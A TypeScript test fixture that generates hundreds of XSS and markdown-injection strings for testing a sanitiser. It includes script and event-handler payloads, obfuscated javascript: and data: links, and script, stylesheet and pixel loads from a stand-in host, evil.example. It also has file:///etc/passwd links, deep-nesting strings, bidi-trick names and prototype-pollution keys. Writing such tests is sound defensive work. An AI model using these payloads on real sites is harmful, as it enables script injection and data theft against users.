/*
 * Strings that try to run scripts, navigate away or load a resource. Scripts call `ran`, and resources are at
 * evil.example or /canary. The strings are generated in families, to cover variants that no one thought of.
 */

const elements = [
  "<script>ran()</script>",
  "<script src=https://evil.example/x.js></script>",
  "<img src=x onerror=ran()>",
  "<img src=https://evil.example/pixel.gif>",
  "<svg onload=ran()>",
  "<svg><script>ran()</script></svg>",
  "<svg><a href=javascript:ran()><text y=1em>x</text></a></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=ran()></style></mglyph></table></mtext></math>",
  "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
  "<iframe src=javascript:parent.ran()></iframe>",
  "<object data=https://evil.example/x.swf></object>",
  "<embed src=/canary>",
  "<video src=/canary autoplay onerror=ran()></video>",
  "<details open ontoggle=ran()>x</details>",
  "<input autofocus onfocus=ran()>",
  "<style>@import 'https://evil.example/x.css'</style>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href=https://evil.example/>",
  "<form action=/canary><button autofocus>x</button></form>",
  "<body onload=ran()>",
  "<template><script>ran()</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
  "<div style='background:url(https://evil.example/bg)'>x</div>",
];

const settings: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `words before ${payload} and after`,
  (payload) => payload.replace(/<(\/?)(\w+)/g, (_, slash, tag) => `<${slash}${tag.toUpperCase()}\n`),
  (payload) => payload.replace(/ /g, "/"),
  (payload) => payload.replace(/>$/, ""),
  (payload) => `# ${payload}`,
  (payload) => `> - ${payload}`,
  (payload) => `| a | b |\n|---|---|\n| ${payload.replaceAll("|", "")} | x |`,
  (payload) => `[${payload}](https://example.org)`,
  (payload) => `<!--><${payload}-->`,
  (payload) => `\`\`\`html" onload="ran()\n${payload}\n\`\`\`\n\n\`</code>${payload}\``,
];

const targets = [
  "javascript:ran()",
  "data:text/html,<script>ran()</script>",
  "data:image/svg+xml,<svg onload=ran()>",
  "vbscript:ran()",
  "file:///etc/passwd",
  "blob:https://evil.example/1",
];

const spellings: ((target: string) => string)[] = [
  (target) => target,
  (target) => target.replace(/^\w+/, (scheme) => scheme.toUpperCase()),
  (target) => `&#1;${target}`,
  (target) => target.replace(":", "&colon;"),
  (target) => target.replace(/^(\w{3})/, "$1&#9;"),
  (target) => target.replace(/^(\w{3})/, "$1&NewLine;"),
  (target) => target.replace(/^\w/, (letter) => `%${letter.charCodeAt(0).toString(16)}`),
  (target) => target.replace(/^\w/, (letter) => `&#x${letter.charCodeAt(0).toString(16)};`),
  (target) => `//evil.example/%0a${target}`,
];

const links: ((target: string) => string)[] = [
  (target) => `[press](<${target}>)`,
  (target) => `[press][1]\n\n[1]: <${target}>`,
  (target) => `<${target.replaceAll(/[<> ]/g, "")}>`,
  (target) => `![seen](<${target}> "x\\" onload=\\"ran()")`,
];

const images = [
  "![x](https://evil.example/pixel.png)",
  "![x][1]\n\n[1]: https://evil.example/pixel.png",
  "![x](//evil.example/pixel.png)",
  "![x](/canary)",
  "![x](canary)",
  "[![x](https://evil.example/in-link.png)](https://example.org)",
  '<img srcset="https://evil.example/1 1x, /canary 2x">',
  "![x](https://evil.example/?q=`code`)",
];

const nests = [
  ">".repeat(3_000),
  "- ".repeat(2_000),
  "> - 1. ".repeat(400),
  "[".repeat(5_000),
  "![".repeat(3_000),
  "*a **b ".repeat(1_500),
  "`".repeat(3_000),
  "www.a_".repeat(3_000),
  "<a ".repeat(3_000),
  `${"<div>".repeat(2_000)}x`,
  "[^1]: ".repeat(1_000),
  "|".repeat(5_000),
];

/** At least 500 hostile strings, for messages and the document. */
export const hostileTexts: readonly string[] = [
  ...elements.flatMap((element) => settings.map((setting) => setting(element))),
  ...targets.flatMap((target) =>
    spellings.flatMap((spelling) => links.map((link) => link(spelling(target)))),
  ),
  ...images,
  ...nests,
];

/** Hostile names for teams, peers and titles. */
export const hostileNames: readonly string[] = [
  "<img src=x onerror=ran()>",
  "<script>ran()</script>",
  "[x](javascript:ran())",
  "![x](https://evil.example/n.png)",
  "\u202Eevil\u202C",
  "\u2066Ana\u2069\u2069\u202E",
  "Ana\u{E0041}\u{E0042}",
  "__proto__",
  "constructor",
  "W".repeat(100),
];
